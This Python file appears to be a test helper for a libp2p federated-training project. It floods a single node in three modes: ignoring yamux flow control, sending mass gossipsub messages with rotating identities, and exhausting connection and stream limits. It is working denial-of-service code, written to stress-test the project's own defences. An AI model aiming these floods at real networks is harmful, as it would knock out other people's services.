"""A flooding peer process against one node, for `seconds` seconds: {"event": "ready"} at the
start, then its running totals ({"event": "stats", ...}) every second and once more at the end
({"event": "done", ...}), so a test that stops it early still has them.

Usage: python helpers_fed_flood.py <mode> <node_multiaddr> <topic> <seconds> [swarm [delay_s]]

Modes:
  window   a peer that ignores yamux flow control: its yamux believes every send window is
           unlimited (the attacker's own py-libp2p patched), opens a payload stream, sends a
           request and then pushes 1 MiB writes the node never reads; when the node closes
           the connection it dials again (new identity each time).
  gossip   speaks gossipsub itself (raw RPC frames on /meshsub/1.1.0, no router): thousands of
           messages/s, pre-built: junk data and validly signed manifests for a wrong base
           model, each validly pubsub-signed by one of 256 keys, and mis-signed ones; batches
           of 50 per RPC. When the node blocks it, it comes back under a fresh identity.
  conns    300 connections (one identity each), each opening 80
           payload streams that send nothing (16 at a time), 64 connections at a time; a connection the node refused is given up at once.
"""
from __future__ import annotations

import hashlib
import json
import struct
import sys
import time

import multiaddr
import trio
from libp2p import new_host
from libp2p.crypto.ed25519 import create_new_key_pair
from libp2p.peer.id import ID
from libp2p.peer.peerinfo import info_from_p2p_addr
from libp2p.pubsub.gossipsub import PROTOCOL_ID_V11
from libp2p.pubsub.pb import rpc_pb2
from libp2p.pubsub.validators import PUBSUB_SIGNING_PREFIX
from libp2p.stream_muxer.yamux.yamux import YamuxStream
from libp2p.utils.varint import encode_uvarint

from bitswarm.federation import wire
from bitswarm.federation.identity import peer_id_of
from bitswarm.federation.transport import PAYLOAD_PROTOCOL_ID, muxer_options, security_options
from bitswarm.kernels.config import LoRAConfig

stats: dict[str, int] = {}
last_error = [""]


def count(key: str, n: int = 1) -> None:
    stats[key] = stats.get(key, 0) + n


def emit(**event: object) -> None:
    print(json.dumps(event), flush=True)


def new_peer():  # type: ignore[no-untyped-def]
    kp = create_new_key_pair()
    return new_host(key_pair=kp, sec_opt=security_options(kp), muxer_opt=muxer_options())


async def with_peer(info, body) -> None:  # type: ignore[no-untyped-def]
    """Run `body(host)` on a fresh identity connected to the node; errors end it quietly."""
    host = new_peer()
    count("dials")
    try:
        async with host.run(listen_addrs=[]):
            with trio.fail_after(10):
                await host.connect(info)
            count("connections")
            await body(host)
    except Exception as e:  # noqa: BLE001 - the node closing us is the point
        while isinstance(e, BaseExceptionGroup) and e.exceptions:
            e = e.exceptions[0]
        count(f"ended: {type(e).__name__}")
        last_error[0] = f"{type(e).__name__}: {str(e)[:200]}"


# ---- window ------------------------------------------------------------------------------

_original_write = YamuxStream.write


async def _write_ignoring_window(self, data: bytes) -> None:  # type: ignore[no-untyped-def]
    self.send_window = 1 << 40           # never wait for the receiver's window updates
    await _original_write(self, data)


async def window(info, stop: trio.Event) -> None:  # type: ignore[no-untyped-def]
    YamuxStream.write = _write_ignoring_window   # this process only
    junk = b"\x00" * (1 << 20)

    async def push(host) -> None:  # type: ignore[no-untyped-def]
        stream = await host.new_stream(info.peer_id, [PAYLOAD_PROTOCOL_ID])
        await stream.write(struct.pack(">I", 16) + b"\x00" * 16)
        while not stop.is_set():
            await stream.write(junk)
            count("bytes_pushed", len(junk))

    while not stop.is_set():
        await with_peer(info, push)
        count("closed_by_node")
        await trio.sleep(0.2)


# ---- gossip ------------------------------------------------------------------------------


def signed(kp, data: bytes, seqno: int, topic: str, *, bad_sig: bool = False):  # type: ignore[no-untyped-def]
    msg = rpc_pb2.Message(data=data, topicIDs=[topic], from_id=ID.from_pubkey(kp.public_key).to_bytes(),
                          seqno=seqno.to_bytes(8, "big"))
    sig = kp.private_key.sign(PUBSUB_SIGNING_PREFIX.encode() + msg.SerializeToString())
    msg.signature = b"\x00" * 64 if bad_sig else sig
    return msg


def gossip_frames(topic: str, swarm: str, n: int = 4000, batch: int = 50) -> list[bytes]:
    keys = [create_new_key_pair() for _ in range(256)]
    lora = wire.lora_dict(LoRAConfig())
    now = int(time.time())
    msgs = []
    for i in range(n):
        kp = keys[i % len(keys)]
        kind = i % 4
        if kind == 0:
            data = b"junk " + i.to_bytes(4, "big") * 8
        else:           # a validly signed manifest, for a base model nobody has
            m = wire.UpdateManifest(swarm=swarm, round=i % 3, base_model="0" * 64, lora=lora,
                                    sender=peer_id_of(kp), tokens=1000, codec="int8-block-zstd/1",
                                    payload_sha256=hashlib.sha256(i.to_bytes(4, "big")).digest(),
                                    payload_size=1000, base_adapter=b"\x00" * 32, issued_at=now,
                                    rule="bounded-fedavg")
            data = wire.encode_manifest(m, kp)
        msgs.append(signed(kp, data, now * 100000 + i, topic, bad_sig=kind == 3))
    frames = []
    for i in range(0, n, batch):
        body = rpc_pb2.RPC(publish=msgs[i:i + batch]).SerializeToString()
        frames.append(encode_uvarint(len(body)) + body)
    return frames


async def gossip(info, stop: trio.Event, topic: str, swarm: str) -> None:  # type: ignore[no-untyped-def]
    frames = gossip_frames(topic, swarm)
    hello = rpc_pb2.RPC(subscriptions=[rpc_pb2.RPC.SubOpts(subscribe=True, topicid=topic)]).SerializeToString()

    async def flood(host) -> None:  # type: ignore[no-untyped-def]
        stream = await host.new_stream(info.peer_id, [PROTOCOL_ID_V11])
        await stream.write(encode_uvarint(len(hello)) + hello)
        i = 0
        while not stop.is_set():
            with trio.fail_after(5):
                await stream.write(frames[i % len(frames)])
            count("messages_sent", 50)
            i += 1
            if i % 20 == 0:
                await trio.sleep(0.01)        # ~thousands of messages/s, not a CPU spin

    while not stop.is_set():
        await with_peer(info, flood)
        count("identities")
        await trio.sleep(0.1)


# ---- conns -------------------------------------------------------------------------------


async def conns(info, stop: trio.Event, total: int = 300, parallel: int = 64) -> None:  # type: ignore[no-untyped-def]
    slots = trio.Semaphore(parallel)

    async def hold(host) -> None:  # type: ignore[no-untyped-def]
        held = []
        gone = trio.Event()

        async def open_one() -> None:
            try:
                with trio.fail_after(5):
                    held.append(await host.new_stream(info.peer_id, [PAYLOAD_PROTOCOL_ID]))
                count("streams_opened")
            except Exception as e:  # noqa: BLE001 - reset by the node past its cap
                count("streams_refused")
                count(f"stream error: {type(e).__name__}")
                if "No valid connections" in str(e):
                    gone.set()            # the node closed the connection (connection limits)

        for _batch in range(5):              # 80 streams, 16 at a time: over the cap of 64
            async with trio.open_nursery() as nursery:
                for _ in range(16):
                    nursery.start_soon(open_one)
            if gone.is_set():
                count("connections_refused")
                return
        with trio.move_on_after(1):
            await stop.wait()

    async def one(_i: int) -> None:
        async with slots:
            if not stop.is_set():
                await with_peer(info, hold)

    async with trio.open_nursery() as nursery:
        for i in range(total):
            nursery.start_soon(one, i)


async def main(mode: str, target: str, topic: str, seconds: float, swarm: str, delay_s: float) -> None:
    info = info_from_p2p_addr(multiaddr.Multiaddr(target))
    stop = trio.Event()
    emit(event="ready")
    await trio.sleep(delay_s)
    started = time.monotonic()
    async with trio.open_nursery() as nursery:
        if mode == "window":
            nursery.start_soon(window, info, stop)
        elif mode == "gossip":
            nursery.start_soon(gossip, info, stop, topic, swarm)
        elif mode == "conns":
            nursery.start_soon(conns, info, stop)
        else:
            raise SystemExit(f"unknown mode {mode!r}")
        with trio.move_on_after(seconds):
            while True:
                await trio.sleep(1.0)
                emit(event="stats", last_error=last_error[0], **stats)
        stop.set()
        nursery.cancel_scope.deadline = trio.current_time() + 5    # bounded wind-down
    emit(event="done", seconds=round(time.monotonic() - started, 1), **stats)


if __name__ == "__main__":
    trio.run(main, sys.argv[1], sys.argv[2], sys.argv[3], float(sys.argv[4]),
             sys.argv[5] if len(sys.argv) > 5 else "flood", float(sys.argv[6]) if len(sys.argv) > 6 else 0.0)
